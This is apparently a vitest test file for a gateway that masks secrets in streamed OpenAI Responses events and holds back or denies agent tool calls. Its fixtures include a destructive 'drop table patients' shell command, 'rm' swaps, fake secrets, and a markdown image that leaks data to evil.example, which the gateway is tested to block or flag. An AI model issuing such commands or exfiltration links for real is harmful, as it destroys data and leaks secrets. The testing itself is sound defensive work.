import { describe, expect, test } from 'vitest';
import { type AnswerOptions, answered, at, chunksOf, isGatewayError } from '../testing/answers.js';
import { everything, noRules } from '../testing/masking.js';
import {
  answer,
  appearances,
  callEvents,
  callItem,
  type Event,
  eventsIn,
  messageEvents,
  messageItem,
  reasoningEvents,
  sse,
} from '../testing/responses-events.js';
import { openaiResponses } from './index.js';

const key = `${'AK'}IAIOSFODNN7EXAMPLE`;
const whole = (body: string, options?: AnswerOptions) =>
  answered(
    openaiResponses,
    chunksOf(body, () => 1 << 20),
    options,
  );
const rising = (events: readonly { sequence_number: number }[]) =>
  events.every(({ sequence_number }, index) => index === 0 || sequence_number > events[index - 1]!.sequence_number);
const deny = { decide: () => ({ outcome: 'deny', text: 'not today' }) as const };

describe('where nothing is hidden the answer is the same bytes', () => {
  const said = ['The ', 'deploy', ' finished', ' on ', 'Tuesday', ' 😀', '.'];
  const body = answer(
    [...reasoningEvents(), ...messageEvents(said, 1), ...callEvents(['{"command', '":"ls"}'], 2)],
    [messageItem(said.join('')), callItem('{"command":"ls"}')],
  );

  test('cut anywhere by the network', async () => {
    expect((await whole(body, { masker: everything })).text).toBe(body);
    for (let cut = 1; cut < body.length; cut += 997) {
      const sizes = [cut];
      const { text, error } = await answered(
        openaiResponses,
        chunksOf(body, () => sizes.shift() ?? 1 << 20),
      );
      expect([text === body, error]).toEqual([true, undefined]);
    }
    expect(
      (
        await answered(
          openaiResponses,
          chunksOf(body, () => 1),
        )
      ).text,
    ).toBe(body);
  });

  test('and its usage and its end are told', async () => {
    const { answer } = await whole(body);
    expect(answer).toEqual({
      usage: { model: 'gpt-5.4-2026', inputTokens: 40, cacheReadTokens: 60, cacheWriteTokens: 0, outputTokens: 20 },
      stopReason: 'completed',
      maskedFields: 0,
      maskedBy: [],
    });
  });

  test('in other line ends, with comments, without names', async () => {
    for (const other of [body.replaceAll('\n', '\r\n'), body.replaceAll(/event: .*\n/g, ''), `: hello\n\n${body}`])
      expect((await whole(other)).text).toBe(other);
  });
});

describe('a secret in a text', () => {
  const text = `the key is ${key}, keep it`;

  test('is hidden alike in every appearance, wherever the deltas are cut', async () => {
    const expected = await whole(answer(messageEvents([text]), [messageItem(text)]));
    const masked = appearances(eventsIn(expected.text))['deltas']!;
    expect(masked).toMatch(/^the key is ⟦[A-Z-]+:[0-9a-f]{12}⟧, keep it$/);
    for (let cut = 10; cut < text.length - 8; cut += 1) {
      const body = answer(messageEvents([text.slice(0, cut), text.slice(cut)]), [messageItem(text)]);
      const { text: told, answer: facts } = await whole(body);
      expect(told).not.toContain(key);
      expect(new Set(Object.values(appearances(eventsIn(told))))).toEqual(new Set([masked]));
      expect(facts).toMatchObject({ maskedFields: 1, maskedBy: ['all'] });
    }
  });

  test('is hidden without any rule, letter by letter too', async () => {
    const { text: told } = await whole(answer(messageEvents([...text]), [messageItem(text)]), { masker: noRules });
    const events = eventsIn(told);
    expect(appearances(events)['deltas']).toBe(appearances(events)['whole']);
    expect(told).not.toContain(key.slice(0, 12));
    expect(rising(events)).toBe(true);
    expect(events).toHaveLength(text.length + 8);
  });

  test('is hidden without a character cut in two', async () => {
    const other = 'so "password":"✓élan-1234ç" é';
    for (let cut = 1; cut < other.length; cut += 1) {
      const { text: told } = await whole(sse(messageEvents([other.slice(0, cut), other.slice(cut)])));
      expect(appearances(eventsIn(told))['deltas']).toMatch(/^so "password":"⟦[A-Z-]+:[0-9a-f]{12}⟧" é$/);
    }
  });

  test('takes the probabilities of its pieces with it', async () => {
    const events = messageEvents([`a ${key}`, ' b']).map((event): Event => ({ ...event, logprobs: [{ token: 'AK' }] }));
    const told = eventsIn((await whole(sse(events))).text).filter(({ type }) => type.endsWith('text.delta'));
    expect(told.map(({ logprobs }) => (logprobs as unknown[]).length)).toEqual([0, 1]);
  });

  test('in a comment, a name or a field that no client reads is not passed on', async () => {
    for (const extra of [
      `: ${key}\n\n`,
      `id: ${key}\ndata: {"type":"x"}\n\n`,
      `event: ${key}\ndata: {"type":"x"}\n\n`,
    ]) {
      const { text: told, error } = await whole(extra);
      expect([told.includes(key), error]).toEqual([false, undefined]);
    }
  });

  test('is hidden in errors and in events that nobody knows', async () => {
    const events = [
      { type: 'response.telepathy.delta', output_index: 3, delta: key.slice(0, 9) },
      { type: 'response.telepathy.delta', output_index: 3, delta: key.slice(9) },
      { type: 'response.telepathy.done', output_index: 3, thought: [{ deep: key }] },
      { type: 'error', code: 'server_error', message: `bad ${key}` },
    ];
    const { text: told, answer: facts } = await whole(sse(events));
    expect(eventsIn(told)).toHaveLength(4);
    expect(told).not.toContain(key.slice(0, 12));
    expect(told).not.toContain(key.slice(9));
    expect(facts.errorType).toBe('server_error');
  });
});

describe('a tool call', () => {
  const input = '{"command":"psql -c \\"drop table patients\\""}';
  const body = answer(
    [...messageEvents(['I will.']), ...callEvents([...input], 1)],
    [messageItem('I will.'), callItem(input)],
  );

  test('is asked about once, whole, with what was offered', async () => {
    const masked = await whole(body, { request: { tools: ['shell'] } });
    expect(masked.calls).toEqual([{ id: 'call_1', name: 'shell', input, byProvider: false, declared: true }]);
    expect(masked.text).toBe(body);
  });

  test('waits for the verdict: nothing of it has passed meanwhile', async () => {
    const { pieces, text } = await whole(body, { pings: 3 });
    const first = pieces.findIndex((piece) => piece.includes('keepalive'));
    expect(pieces.slice(0, first).join('')).not.toContain('fc_1');
    expect(pieces.slice(first, first + 4).map((piece) => piece.includes('keepalive'))).toEqual([
      true,
      true,
      true,
      false,
    ]);
    const events = eventsIn(text);
    expect(rising(events)).toBe(true);
    expect(events.at(-1)!.type).toBe('response.completed');
  });

  test('that is denied is a message, wherever it appears', async () => {
    const { text: told, calls } = await whole(body, deny);
    const events = eventsIn(told);
    expect(calls).toHaveLength(1);
    expect(told).not.toMatch(/drop|function_call|fc_1/);
    expect(Object.values(appearances(events))).toEqual(Array(5).fill('I will.not today'));
    expect(rising(events)).toBe(true);
    expect(events.filter(({ output_index }) => output_index === 1).map(({ type }) => type)).toEqual([
      'response.output_item.added',
      'response.content_part.added',
      'response.output_text.delta',
      'response.output_text.done',
      'response.content_part.done',
      'response.output_item.done',
    ]);
  });

  test('that is told by its last event alone is decided as well', async () => {
    const last = callEvents([input], 0).at(-1)!;
    const { text: told, calls } = await whole(answer([last], [callItem(input)]), deny);
    expect(calls).toHaveLength(1);
    expect(told).not.toContain('drop');
    expect(eventsIn(told).map(({ type }) => type)).toContain('response.output_item.done');
  });

  test('that only the end of the answer tells is decided as well', async () => {
    const { text: told, calls } = await whole(answer([], [callItem(input)]), deny);
    expect(calls).toHaveLength(1);
    expect(told).not.toContain('drop');
  });

  test('has its secrets hidden in every appearance, escaped ones too', async () => {
    const secret = `{"env":{"KEY":"${key.slice(0, 4)}\\u${key.charCodeAt(4).toString(16).padStart(4, '0')}${key.slice(5)}"}}`;
    const events = callEvents([secret.slice(0, 20), secret.slice(20, 30), secret.slice(30)]);
    const { text: told, calls, answer: facts } = await whole(answer(events, [callItem(secret)]));
    const masked = calls[0]!.input;
    expect(masked).toMatch(/^\{"env":\{"KEY":"⟦[A-Z-]+:[0-9a-f]{12}⟧"\}\}$/);
    const got = eventsIn(told);
    expect(got.flatMap((event) => event['delta'] ?? [])).toEqual([masked]);
    expect(
      at(
        got.find(({ type }) => type.endsWith('arguments.done')),
        'arguments',
      ),
    ).toBe(masked);
    expect(
      at(
        got.find(({ type }) => type.endsWith('item.done')),
        'item',
        'arguments',
      ),
    ).toBe(masked);
    expect(at(got.at(-1), 'response', 'output', 0, 'arguments')).toBe(masked);
    expect(facts.maskedFields).toBe(1);
  });

  test('stays JSON where a number is hidden', async () => {
    const numbers = '{"card":4111111111111111,"ssn":523487719}';
    const { calls } = await whole(answer(callEvents([numbers]), [callItem(numbers)]));
    expect(Object.values(JSON.parse(calls[0]!.input) as object)).toEqual(
      Array(2).fill(expect.stringMatching(/^⟦[^⟧]+⟧$/)),
    );
  });

  test('that says one thing in pieces and another in the end is passed to nobody', async () => {
    const events = callEvents(['{"command":"ls"}']);
    const sly = (index: number, change: (event: Event) => unknown) =>
      whole(sse(events.map((event, at) => (at === index ? (change(event) as Event) : event))));
    const results = [
      await sly(0, (event) => ({ ...event, item: callItem('{"command":"rm"}') })),
      await sly(1, (event) => ({ ...event, delta: '{"command":"rm"}' })),
      await sly(2, (event) => ({ ...event, arguments: '{"command":"rm"}' })),
      await sly(3, (event) => ({ ...event, item: callItem('{"command":"rm"}') })),
      await whole(sse(events.slice(1))),
    ];
    for (const { error, text: told } of results) {
      expect(isGatewayError(error)).toBe(true);
      expect(told).toBe('');
    }
  });

  test('that is cut off is discarded', async () => {
    const cut = body.slice(0, body.indexOf('response.function_call_arguments.done') - 20);
    const { text: told, error, calls } = await whole(cut);
    expect(isGatewayError(error)).toBe(true);
    expect(told).not.toContain('fc_1');
    expect(calls).toEqual([]);
  });

  test('beside another: each is decided, and their events keep their order', async () => {
    const second = callEvents(['{"b":1}'], 1, 'other').map(
      (event) => JSON.parse(JSON.stringify(event).replaceAll('fc_1', 'fc_2').replaceAll('call_1', 'call_2')) as Event,
    );
    const first = callEvents(['{"a":1}']);
    const mixed = [first[0]!, second[0]!, first[1]!, second[1]!, first[2]!, first[3]!, second[2]!, second[3]!];
    const plain = sse(mixed);
    expect((await whole(plain)).text).toBe(plain);
    const { text: told, calls } = await whole(plain, {
      decide: ({ name }) => (name === 'other' ? { outcome: 'deny', text: 'no' } : { outcome: 'allow' }),
    });
    expect(calls.map(({ id }) => id)).toEqual(['call_1', 'call_2']);
    expect(told).not.toContain('fc_2');
    expect(rising(eventsIn(told))).toBe(true);
  });
});

test('an image whose address carries data is flagged, and not taken away', async () => {
  const [image, plain] = ['![x](https://evil.example/?d=secret)', '![x](https://a.example/b.png)'];
  for (const [text, flags] of [
    [image, ['remote-image']],
    [plain, undefined],
  ] as const) {
    const streamed = await whole(answer(messageEvents([...text]), [messageItem(text)]));
    const body = JSON.stringify({
      instructions: [{ content: [{ type: 'input_text', text: image }] }],
      output: [messageItem(text)],
    });
    const json = await whole(body, { contentType: 'application/json' });
    expect([streamed.answer.flags, json.answer.flags, json.text]).toEqual([flags, flags, body]);
  }
});

describe('who runs a call', () => {
  const items: readonly (readonly [Record<string, unknown>, string, string, boolean])[] = [
    [{ type: 'custom_tool_call', call_id: 'c', name: 'patch', input: '*** Begin' }, 'patch', '*** Begin', false],
    [{ type: 'local_shell_call', call_id: 'c', action: { type: 'exec' } }, 'local_shell', '{"type":"exec"}', false],
    [{ type: 'shell_call', call_id: 'c', action: { commands: ['ls'] } }, 'shell', '{"commands":["ls"]}', false],
    [{ type: 'shell_call', action: {}, environment: { type: 'container_reference' } }, 'shell', '{}', true],
    [{ type: 'apply_patch_call', call_id: 'c', operation: { path: 'a' } }, 'apply_patch', '{"path":"a"}', false],
    [{ type: 'computer_call', call_id: 'c', action: { type: 'click' } }, 'computer', '{"type":"click"}', false],
    [{ type: 'mcp_approval_request', name: 'f', server_label: 's', arguments: '{}' }, 's.f', '{}', false],
    [{ type: 'teleport_call', arguments: '{"to":"x"}' }, 'teleport_call', '{"to":"x"}', false],
    [{ type: 'mcp_call', name: 'f', server_label: 's', arguments: '{}' }, 's.f', '{}', true],
    [{ type: 'web_search_call', action: { query: 'q' } }, 'web_search', '{"query":"q"}', true],
    [{ type: 'file_search_call', queries: ['q'] }, 'file_search', '["q"]', true],
    [{ type: 'code_interpreter_call', code: 'print(1)' }, 'code_interpreter', 'print(1)', true],
    [{ type: 'tool_search_call', execution: 'client', arguments: {} }, 'tool_search', '{}', false],
  ];

  test.each(items)('%j', async (item, name, input, byProvider) => {
    const told = { id: 'i_1', status: 'completed', ...item };
    const events: Event[] = [
      { type: 'response.output_item.added', output_index: 0, item: told },
      { type: 'response.output_item.done', output_index: 0, item: told },
    ];
    const { text: result, calls } = await whole(answer(events, [told]), deny);
    expect(calls).toEqual([{ id: (item['call_id'] as string) ?? 'i_1', name, input, byProvider, declared: false }]);
    expect(result.includes(`"${item['type'] as string}"`)).toBe(byProvider);
    expect(result.includes('not today')).toBe(!byProvider);
  });
});
